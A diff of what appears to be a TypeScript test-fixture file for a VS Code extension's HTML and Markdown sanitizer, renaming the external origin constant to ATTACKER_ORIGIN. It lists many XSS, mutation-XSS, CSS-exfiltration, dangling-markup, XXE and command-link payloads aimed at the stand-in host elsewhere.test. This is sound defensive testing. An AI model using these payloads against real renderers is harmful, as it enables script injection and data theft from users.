@@ -1,7 +1,7 @@
 // Our own HTML and Markdown attacks: tags, handlers, URLs and styles, and tricky markup.
 
-/** The origin of all external resources in the attacks. Tests replace it with the origin of a recording server. */
-export const EXTERNAL_ORIGIN = 'http://elsewhere.test';
+/** The attacker's origin in the attacks. Tests replace it with the origin of an `AttackerServer`. */
+export const ATTACKER_ORIGIN = 'http://elsewhere.test';
 /** A command link that opens a tab if it is followed, so that a test detects it. */
 export const COMMAND_LINK = 'command:workbench.action.files.newUntitledFile';
 
@@ -51,7 +51,7 @@ const ADDRESSES = [
   'code-oss://contrail.contrail/open?server=x',
   'vscode-webview://x/index.html',
   'vscode-file://vscode-app/etc/passwd',
-  `${EXTERNAL_ORIGIN}/a`,
+  `${ATTACKER_ORIGIN}/a`,
   '//elsewhere.test/b',
   '\\\\elsewhere.test\\c',
   'https:elsewhere.test/d',
@@ -78,37 +78,37 @@ const URL_MARKUP: readonly ((address: string) => string)[] = [
 ];
 
 const STYLES = [
-  `background:url(${EXTERNAL_ORIGIN}/s1)`,
-  `background-image:image-set("${EXTERNAL_ORIGIN}/s2" 1x)`,
-  `list-style:url(${EXTERNAL_ORIGIN}/s3);display:list-item`,
-  `cursor:url(${EXTERNAL_ORIGIN}/s4),auto`,
+  `background:url(${ATTACKER_ORIGIN}/s1)`,
+  `background-image:image-set("${ATTACKER_ORIGIN}/s2" 1x)`,
+  `list-style:url(${ATTACKER_ORIGIN}/s3);display:list-item`,
+  `cursor:url(${ATTACKER_ORIGIN}/s4),auto`,
   'width:expression(alert(1))',
-  `-moz-binding:url(${EXTERNAL_ORIGIN}/x.xml#x)`,
+  `-moz-binding:url(${ATTACKER_ORIGIN}/x.xml#x)`,
   'behavior:url(#default#time2)',
   'position:fixed;inset:0;z-index:9999;background:red',
-  `background:\\75rl(${EXTERNAL_ORIGIN}/s5)`,
+  `background:\\75rl(${ATTACKER_ORIGIN}/s5)`,
 ];
 
 const ACTIVE_MARKUP = [
   SCRIPT,
   '<ScRiPt >alert(1)</sCrIpT >',
-  `<script src=${EXTERNAL_ORIGIN}/x.js></script>`,
+  `<script src=${ATTACKER_ORIGIN}/x.js></script>`,
   '<script type=module>import("data:text/javascript,alert(1)")</script>',
   '<script>/*<img src="*/alert(1)//">',
-  `<link rel=dns-prefetch href=${EXTERNAL_ORIGIN}><link rel=preconnect href=${EXTERNAL_ORIGIN}><link rel=modulepreload href=${EXTERNAL_ORIGIN}/m.js>`,
-  `<link rel=manifest href=${EXTERNAL_ORIGIN}/m.json><link rel=icon href=${EXTERNAL_ORIGIN}/i.png>`,
-  `<style>@import "${EXTERNAL_ORIGIN}/i.css";</style>`,
-  `<style>body{background:url(${EXTERNAL_ORIGIN}/b)}*{display:none}</style>`,
-  `<picture><source srcset=${EXTERNAL_ORIGIN}/p1><img src=${EXTERNAL_ORIGIN}/p2></picture>`,
-  `<audio src=${EXTERNAL_ORIGIN}/a1 autoplay></audio><bgsound src=${EXTERNAL_ORIGIN}/a2>`,
-  `<portal src=${EXTERNAL_ORIGIN}/p></portal><fencedframe src=${EXTERNAL_ORIGIN}/f></fencedframe>`,
-  `<img src=x attributionsrc=${EXTERNAL_ORIGIN}/at><a attributionsrc=${EXTERNAL_ORIGIN}/at href=${EXTERNAL_ORIGIN}>x</a>`,
-  `<img src='${EXTERNAL_ORIGIN}/dangling?`,
-  `<form action=${EXTERNAL_ORIGIN}/f><button>Save</button><textarea name=t>`,
+  `<link rel=dns-prefetch href=${ATTACKER_ORIGIN}><link rel=preconnect href=${ATTACKER_ORIGIN}><link rel=modulepreload href=${ATTACKER_ORIGIN}/m.js>`,
+  `<link rel=manifest href=${ATTACKER_ORIGIN}/m.json><link rel=icon href=${ATTACKER_ORIGIN}/i.png>`,
+  `<style>@import "${ATTACKER_ORIGIN}/i.css";</style>`,
+  `<style>body{background:url(${ATTACKER_ORIGIN}/b)}*{display:none}</style>`,
+  `<picture><source srcset=${ATTACKER_ORIGIN}/p1><img src=${ATTACKER_ORIGIN}/p2></picture>`,
+  `<audio src=${ATTACKER_ORIGIN}/a1 autoplay></audio><bgsound src=${ATTACKER_ORIGIN}/a2>`,
+  `<portal src=${ATTACKER_ORIGIN}/p></portal><fencedframe src=${ATTACKER_ORIGIN}/f></fencedframe>`,
+  `<img src=x attributionsrc=${ATTACKER_ORIGIN}/at><a attributionsrc=${ATTACKER_ORIGIN}/at href=${ATTACKER_ORIGIN}>x</a>`,
+  `<img src='${ATTACKER_ORIGIN}/dangling?`,
+  `<form action=${ATTACKER_ORIGIN}/f><button>Save</button><textarea name=t>`,
   `<form id=f1></form><button form=f1 formaction="javascript:alert(1)">Go</button>`,
   `<iframe srcdoc="${SCRIPT}"></iframe>`,
   `<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;" sandbox="allow-scripts"></iframe>`,
-  `<applet code=x archive=${EXTERNAL_ORIGIN}/x.jar></applet><param name=url value=${EXTERNAL_ORIGIN}>`,
+  `<applet code=x archive=${ATTACKER_ORIGIN}/x.jar></applet><param name=url value=${ATTACKER_ORIGIN}>`,
   `<frameset><frame src="javascript:alert(1)"></frameset>`,
   '<isindex action=javascript:alert(1) type=image>',
   '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
@@ -150,7 +150,7 @@ const MUTATION_ATTACKS = [
   `<listing>\n\n${BROKEN_IMAGE}</listing>`,
   `<template><p title="</template>${BROKEN_IMAGE}">`,
   `<template shadowrootmode=open>${SCRIPT}${BROKEN_IMAGE}</template>`,
-  `<div><template shadowrootmode="open"><slot></slot><style>:host{background:url(${EXTERNAL_ORIGIN}/h)}</style></template>x</div>`,
+  `<div><template shadowrootmode="open"><slot></slot><style>:host{background:url(${ATTACKER_ORIGIN}/h)}</style></template>x</div>`,
   `<select><template><style><!--</style><a rel="--></style></template></select>${BROKEN_IMAGE}">`,
   `<select><style></select>${BROKEN_IMAGE}</style></select>`,
   `<option><style></option></select>${BROKEN_IMAGE}</style></option>`,
@@ -165,7 +165,7 @@ const MUTATION_ATTACKS = [
   `<!--!> ${BROKEN_IMAGE} -->`,
   `<!-- --!> ${BROKEN_IMAGE} -->`,
   `<!ENTITY x "${BROKEN_IMAGE}">&x;`,
-  `<!DOCTYPE x [<!ENTITY y SYSTEM "${EXTERNAL_ORIGIN}/e">]><p>&y;</p>`,
+  `<!DOCTYPE x [<!ENTITY y SYSTEM "${ATTACKER_ORIGIN}/e">]><p>&y;</p>`,
   '<<img src=x onerror=alert(1)//',
   '<img src=x onerror=alert(1)//',
   '<img/src="x"/onerror=alert(1)>',
@@ -208,7 +208,7 @@ const CLOBBERING_ATTACKS = [
   '<div data-opaque="<script>alert(1)</script>" data-icon=mention class=opaque>x</div>',
   '<span data-source-tag="<img src=x onerror=alert(1)>" data-preserved=inline data-tag=script>x</span>',
   '<div data-preserved=block data-tag=script data-source-tag="<script>">alert(1)</div>',
-  `<span class=picture-place data-picture="${EXTERNAL_ORIGIN}/own" data-alt="x">Picture</span>`,
+  `<span class=picture-place data-picture="${ATTACKER_ORIGIN}/own" data-alt="x">Picture</span>`,
   `<a data-href="${COMMAND_LINK}" href="${COMMAND_LINK}" class="detected-link">x</a>`,
   '<pre><code class="language-x"><img src=x onerror=alert(1)>">x</code></pre>',
   '<pre><code class="language-html"><img src=x onerror=alert(1)></code></pre>',
@@ -256,7 +256,7 @@ const LINK_TARGETS = [
   'command:workbench.action.terminal.new',
   'command:contrail.signOut',
   'command:contrail.openWorkItem?%5B%7B%22identifier%22%3A%22X-1%22%7D%5D',
-  `${EXTERNAL_ORIGIN}/m.png`,
+  `${ATTACKER_ORIGIN}/m.png`,
   'https://elsewhere.test',
   'www.elsewhere.test',
   'mail@elsewhere.test',
